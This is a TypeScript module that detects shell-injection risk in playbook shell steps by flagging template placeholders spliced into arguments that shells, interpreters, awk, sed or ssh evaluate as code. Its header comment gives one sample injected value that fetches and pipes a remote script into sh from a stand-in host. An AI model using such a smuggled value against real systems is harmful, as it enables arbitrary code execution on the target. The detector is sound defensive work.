/**
 * Shell steps cannot be injected. `shell.command` runs an argument vector, so a label value in an
 * argument is one argument whatever it holds. That protection is lost the moment the argv hands a
 * string to something that evaluates it as code: `sh -c "restart {{labels.host}}"` lets whoever
 * can send an alert run anything on the worker (`host=x; curl evil | sh`). This module finds such
 * script arguments so the playbook schema can refuse them at load time.
 *
 * Which programs evaluate which argument (matched by basename, so `/bin/sh` and `busybox sh` count,
 * and at any position in argv, so wrappers such as `env`, `sudo`, `timeout`, `nice`, `xargs` or
 * `kubectl exec … --` do not hide them):
 *
 * - shells (sh, bash, dash, zsh, ksh, mksh, ash, fish, csh, tcsh): the first operand after an
 *   option cluster holding `c` (`-c`, `-ec`, `-xc`; fish's `--command`); later operands are $0, $1…
 * - python, python2, python3, python3.N, pypy, pypy3: `-c`; perl: `-e`/`-E`; ruby: `-e`;
 *   node, nodejs, bun: `-e`/`--eval`/`-p`/`--print`; php: `-r`; lua, luajit: `-e`;
 *   pwsh, powershell: `-c`/`-Command`/`-EncodedCommand` (the option's value, attached or next)
 * - awk, gawk, mawk, nawk, sed: the program (after `-e`/`--expression`, or the first operand when
 *   no `-f` file is given); GNU sed's `e` command and awk's `system()` run commands
 * - ssh: every operand after the destination, which the remote side runs through its shell
 */

/** A placeholder of any scope (`{{inputs.X}}`, `{{labels.X}}`, `{{secrets.X}}`, …); `{{.Go}}` templates are not. */
const PLACEHOLDER = /\{\{\s*[A-Za-z_][A-Za-z0-9_]*\.[A-Za-z0-9_.-]+\s*\}\}/;

const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh']);
/** Interpreters whose option takes the script as its value. */
const EVAL_OPTIONS: Record<string, RegExp> = {
  python: /^-c/,
  perl: /^-[eE]/,
  ruby: /^-e/,
  node: /^(-e|-p|--eval|--print)(=|$)/,
  bun: /^(-e|-p|--eval|--print)(=|$)/,
  php: /^-r/,
  lua: /^-e/,
  pwsh: /^-(c|command|encodedcommand|ec)(:|$)/i,
};
const INTERPRETER_ALIASES: Record<string, string> = {
  nodejs: 'node',
  luajit: 'lua',
  powershell: 'pwsh',
  'powershell.exe': 'pwsh',
  'pwsh.exe': 'pwsh',
};
const PROGRAM_LANGUAGES = new Set(['awk', 'gawk', 'mawk', 'nawk', 'sed']);
/** Options of these tools that take a value in the next argument (so that value is not the program or destination). */
const VALUE_OPTIONS: Record<string, RegExp> = {
  shell: /^[-+]o$/,
  awk: /^(-[vFf]|--assign|--field-separator|--file)$/,
  sed: /^(-[lf]|--file|--line-length)$/,
  ssh: /^-[BbcDEeFIiJLlmOoPpQRSWw]$/,
};

export interface ScriptArgument {
  /** Index in argv of the argument evaluated as code. */
  index: number;
  /** How it is evaluated, for the message: `sh -c`, `python3 -c`, `ssh` … */
  via: string;
}

function interpreterOf(arg: string): string | undefined {
  const base = arg.slice(arg.lastIndexOf('/') + 1);
  if (/^python(\d+(\.\d+)*)?$/.test(base) || /^pypy3?$/.test(base)) return 'python';
  return INTERPRETER_ALIASES[base] ?? base;
}

/** Every argv entry that some program in `argv` evaluates as code. */
export function scriptArguments(argv: readonly string[]): ScriptArgument[] {
  const found: ScriptArgument[] = [];
  argv.forEach((arg, at) => {
    const name = interpreterOf(arg);
    if (!name) return;
    if (SHELLS.has(name)) found.push(...shellScript(argv, at));
    else if (EVAL_OPTIONS[name]) found.push(...evalOptions(argv, at, EVAL_OPTIONS[name]));
    else if (PROGRAM_LANGUAGES.has(name)) found.push(...programText(argv, at, name));
    else if (name === 'ssh') found.push(...remoteCommand(argv, at));
  });
  return found;
}

function shellScript(argv: readonly string[], at: number): ScriptArgument[] {
  let flag: string | undefined;
  for (let i = at + 1; i < argv.length; i++) {
    const arg = argv[i]!;
    if (VALUE_OPTIONS.shell!.test(arg)) i++;
    else if (arg === '--command' || /^-[A-Za-z]*c[A-Za-z]*$/.test(arg)) flag = arg;
    else if (/^[-+]/.test(arg)) continue;
    // The first operand: the script with -c, otherwise a script file (not text we could check).
    else return flag ? [{ index: i, via: `${argv[at]} ${flag}` }] : [];
  }
  return [];
}

function evalOptions(argv: readonly string[], at: number, option: RegExp): ScriptArgument[] {
  const found: ScriptArgument[] = [];
  for (let i = at + 1; i < argv.length; i++) {
    const arg = argv[i]!;
    const match = arg.match(option);
    if (!match) continue;
    const flag = match[0].replace(/[=:]$/, '');
    // The script is attached (`-cprint(1)`, `--eval=…`) or the next argument.
    if (arg.length > match[0].length || /[=:]$/.test(match[0])) found.push({ index: i, via: `${argv[at]} ${flag}` });
    else if (i + 1 < argv.length) found.push({ index: ++i, via: `${argv[at]} ${flag}` });
  }
  return found;
}

function programText(argv: readonly string[], at: number, name: string): ScriptArgument[] {
  const kind = name === 'sed' ? 'sed' : 'awk';
  const found: ScriptArgument[] = [];
  let fromFile = false;
  for (let i = at + 1; i < argv.length; i++) {
    const arg = argv[i]!;
    if (/^(-e|--expression|--source)$/.test(arg) && i + 1 < argv.length) {
      found.push({ index: ++i, via: `${argv[at]} ${arg}` });
    } else if (/^(-e|--expression=|--source=)./.test(arg)) {
      found.push({ index: i, via: argv[at]! });
    } else if (VALUE_OPTIONS[kind]!.test(arg)) {
      if (/^(-f|--file)$/.test(arg)) fromFile = true;
      i++;
    } else if (arg.startsWith('-')) {
      continue;
    } else {
      // The first operand is the program unless it came from -e or a file; the rest are input files.
      if (found.length === 0 && !fromFile) found.push({ index: i, via: `${argv[at]} program` });
      break;
    }
  }
  return found;
}

function remoteCommand(argv: readonly string[], at: number): ScriptArgument[] {
  for (let i = at + 1; i < argv.length; i++) {
    const arg = argv[i]!;
    if (VALUE_OPTIONS.ssh!.test(arg)) i++;
    else if (arg.startsWith('-')) continue;
    // argv[i] is the destination: everything after it is joined into one remote shell command.
    else return argv.slice(i + 1).map((_, k) => ({ index: i + 1 + k, via: `${argv[at]} (remote shell)` }));
  }
  return [];
}

export interface ShellInjection {
  /** Index in argv of the offending script argument. */
  index: number;
  message: string;
}

/** Script arguments in `argv` that splice a placeholder into code, each with what to do instead. */
export function shellInjections(argv: readonly string[]): ShellInjection[] {
  return scriptArguments(argv).flatMap(({ index, via }) => {
    const placeholder = argv[index]!.match(PLACEHOLDER)?.[0];
    if (!placeholder) return [];
    return [
      {
        index,
        message:
          `${placeholder} is spliced into code that ${via} evaluates: whoever controls that value could run ` +
          `anything. Pass it as its own argument after the script and use it quoted ("$1" in sh -c, ` +
          `sys.argv[1] in python -c), or put it in params.env and use "$NAME"`,
      },
    ];
  });
}

type ActionLike = { action: string; params: unknown };

/** The injections in a step's shell command and its compensation's, with their paths within the step. */
export function shellStepIssues(
  step: ActionLike & { compensation?: ActionLike },
): Array<{ path: Array<string | number>; message: string }> {
  const actions: Array<[Array<string | number>, ActionLike | undefined]> = [
    [[], step],
    [['compensation'], step.compensation],
  ];
  return actions.flatMap(([prefix, action]) => {
    const command = (action?.params as { command?: unknown } | undefined)?.command;
    if (action?.action !== 'shell.command' || !Array.isArray(command)) return [];
    return shellInjections(command as string[]).map(({ index, message }) => ({
      path: [...prefix, 'params', 'command', index],
      message,
    }));
  });
}
